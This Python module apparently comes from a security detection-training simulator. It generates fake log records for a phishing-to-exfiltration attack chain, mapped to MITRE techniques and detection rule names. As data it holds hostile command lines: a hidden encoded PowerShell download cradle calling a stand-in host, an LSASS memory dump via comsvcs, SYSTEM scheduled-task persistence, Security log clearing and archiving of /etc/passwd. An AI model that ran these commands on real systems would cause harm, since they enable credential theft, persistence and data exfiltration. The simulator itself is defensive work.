"""Attack: a mailed document starts PowerShell, LSASS is dumped, a service carries the intruder on to a file server and from there
into the data platform; citizens' data leave for the Internet.
"""

from __future__ import annotations

import base64
import random
from functools import partial

from demo import cloud, eve, syslog, windows
from demo.background.scene import SENSORS, session
from demo.chains.chain import LOOT, Chain
from demo.city import City, Host
from demo.plan import Build, Planned, Route

SYSTEM32 = "C:\\Windows\\System32\\"
EXPLORER = "C:\\Windows\\explorer.exe"
WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
RUNDLL32, CMD, SERVICES = SYSTEM32 + "rundll32.exe", SYSTEM32 + "cmd.exe", SYSTEM32 + "services.exe"
IMPLANT = "C:\\Users\\Public\\wdu.exe"
CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('http://{LOOT}/a')"
HIDDEN = "/" + "tmp/"
"""The intruder's hiding place, as it stands in the record; nothing is written there."""
LAUNCH = "powershell.exe -NoP -W Hidden -Enc " + base64.b64encode(CRADLE.encode("utf-16-le")).decode()


def phishing(city: City, rng: random.Random) -> list[Planned]:
    """Document → PowerShell → LSASS → file server → cleared logs → data platform → Internet; about 80 seconds."""
    chain = Chain("phishing")
    victim = rng.choice(city.within("egov-extranet", "workstation"))
    server, node = rng.choice(city.of("file")), rng.choice(city.of("data"))
    pid = rng.randrange(1_000, 9_000) * 4
    _open_document(chain, victim, pid)
    _look_around(chain, victim, pid)
    _dump_lsass(chain, victim, pid)
    _move_on(chain, victim, server, pid)
    _clear_logs(chain, server, pid)
    _enter_data_platform(chain, server, node)
    _carry_out(chain, rng, city.named("pop-db-01"), node)
    return chain.records


def _open_document(chain: Chain, victim: Host, pid: int) -> None:
    chain.step("document starts PowerShell", 0, victim, "T1204.002")
    path = f"C:\\Users\\{victim.user}\\Downloads\\通知.docm"
    opened = f'"{WORD}" /n "{path}"'
    chain.send(Route.JSON, _process(victim, WORD, opened, (EXPLORER, EXPLORER, pid - 400), pid))
    chain.send(Route.JSON, partial(windows.file_created, host=victim, user=victim.user, image=WORD, path=path, pid=pid))
    run = _process(victim, POWERSHELL, LAUNCH, (WORD, opened, pid), pid + 8)
    chain.send(Route.JSON, run, "office_spawns_shell", "powershell_encoded_command")
    chain.send(Route.JSON, partial(windows.script_block, host=victim, text=CRADLE), "powershell_download_cradle")
    call = partial(windows.connection, host=victim, user=victim.user, image=POWERSHELL, pid=pid + 8, target=(LOOT, 80), port=50_112)
    chain.send(Route.JSON, call)


def _look_around(chain: Chain, victim: Host, pid: int) -> None:
    chain.step("looks around", 6, victim, "T1069.002")
    powershell = (POWERSHELL, LAUNCH, pid + 8)
    chain.send(Route.JSON, _process(victim, SYSTEM32 + "whoami.exe", "whoami /all", powershell, pid + 12), gap=1.5)
    asked = _process(victim, SYSTEM32 + "net.exe", 'net group "Domain Admins" /domain', powershell, pid + 16)
    chain.send(Route.JSON, asked, "domain_admin_discovery", gap=1.5)


def _dump_lsass(chain: Chain, victim: Host, pid: int) -> None:
    chain.step("dumps LSASS", 5, victim, "T1003.001")
    command = f"rundll32.exe {SYSTEM32}comsvcs.dll, MiniDump 712 C:\\Users\\Public\\d.bin full"
    chain.send(Route.JSON, _process(victim, RUNDLL32, command, (POWERSHELL, LAUNCH, pid + 8), pid + 20), "lsass_dump_comsvcs")
    modules = ("ntdll.dll+9d1f4", "KERNELBASE.dll+2c13e", "dbgcore.dll+6aa1", "comsvcs.dll+24f4b")
    opened = partial(
        windows.access,
        host=victim,
        source=RUNDLL32,
        target=SYSTEM32 + "lsass.exe",
        granted="0x1fffff",
        pid=pid + 20,
        trace="|".join(SYSTEM32 + module for module in modules),
    )
    chain.send(Route.JSON, opened, "lsass_memory_access")


def _move_on(chain: Chain, victim: Host, server: Host, pid: int) -> None:
    chain.step("moves to the file server", 8, server, "T1021.002")
    chain.send(Route.JSON, partial(windows.logon, host=server, user="svc.backup", logon_type=3, source=victim.ip, port=50_233))
    installed = partial(windows.service_installed, host=server, name="WinDefUpdate", path=f"{IMPLANT} -k")
    chain.send(Route.JSON, installed, "service_from_user_path")
    shell = _process(server, CMD, f"cmd.exe /c {IMPLANT}", (SERVICES, SERVICES, 712), pid + 120)
    chain.send(Route.JSON, shell, "shell_from_services")
    command = f"schtasks.exe /create /tn Updater /sc minute /mo 30 /tr {IMPLANT} /ru SYSTEM"
    planned = _process(server, SYSTEM32 + "schtasks.exe", command, (CMD, f"cmd.exe /c {IMPLANT}", pid + 120), pid + 168)
    chain.send(Route.JSON, planned, "task_from_user_path")


def _clear_logs(chain: Chain, server: Host, pid: int) -> None:
    chain.step("clears the logs", 10, server, "T1070.001")
    clear = _process(
        server, SYSTEM32 + "wevtutil.exe", "wevtutil.exe cl Security", (CMD, f"cmd.exe /c {IMPLANT}", pid + 120), pid + 204
    )
    chain.send(Route.JSON, clear, "wevtutil_clear_log")
    chain.send(Route.JSON, partial(windows.log_cleared, host=server, user="SYSTEM"), "security_log_cleared")


def _enter_data_platform(chain: Chain, server: Host, node: Host) -> None:
    """SSH from the extranet into the data platform: no conduit permits it, a forgotten firewall rule lets it pass."""
    chain.step("enters the data platform", 6, node, "T1021.004")
    way = (server.ip, 51_022, node.ip, 22)
    chain.send(*session("FW-DC-01", way, ("Trust", "Data"), mac="")[1:], "management_access")
    chain.send(Route.JSON, partial(eve.flow, sensor=SENSORS[node.zone], flow=way, sent=9_000, received=14_000, seconds=12))
    login = partial(syslog.sshd_accepted, host=node.name, pid=31_200, user="svc.etl", source=server.ip, port=51_022)
    chain.send(Route.TCP, partial(login, method="password"))


def _carry_out(chain: Chain, rng: random.Random, database: Host, node: Host) -> None:
    chain.step("copies citizens' data", 5, database, "T1213.006")
    statement = "COPY (SELECT name, card_no, phone FROM base.person) TO STDOUT WITH CSV"
    copy = partial(cloud.database, host=database.name, user="svc.etl", source=node.ip, verb="COPY", table="base.person")
    chain.send(Route.TCP, partial(copy, pid=8_122, statement=statement), "database_bulk_export")
    words = ("tar", "-czf", HIDDEN + ".d.tgz", "/var/lib/postgresql/export", "/etc/passwd")
    chain.send(Route.TCP, partial(syslog.auditd_execve, host=node.name, serial=70_011, arguments=words), "auditd_archive_staging")

    chain.step("carries the data to the Internet", 6, node, "T1048.002")
    away = (node.ip, 45_000 + rng.randrange(999), LOOT, 443)
    chain.send(*session("USG-EDGE-01", away, ("trust", "untrust"))[1:], "illegal_outbound", gap=2.0)
    gone = partial(eve.flow, sensor=SENSORS[node.zone], flow=away, sent=rng.randrange(700, 1_900) * 1_000_000, received=90_000)
    chain.send(Route.JSON, partial(gone, seconds=8), "volume_to_internet")


def _process(host: Host, image: str, command: str, parent: tuple[str, str, int], pid: int) -> Build:
    """Sysmon 1; a server's processes run as SYSTEM, a workstation's as its user. ``parent``: image, command line and number."""
    user = host.user or "SYSTEM"
    started = partial(windows.process, host=host, user=user, image=image, command=command, pid=pid)
    return partial(started, parent=parent[0], parent_command=parent[1], parent_pid=parent[2])
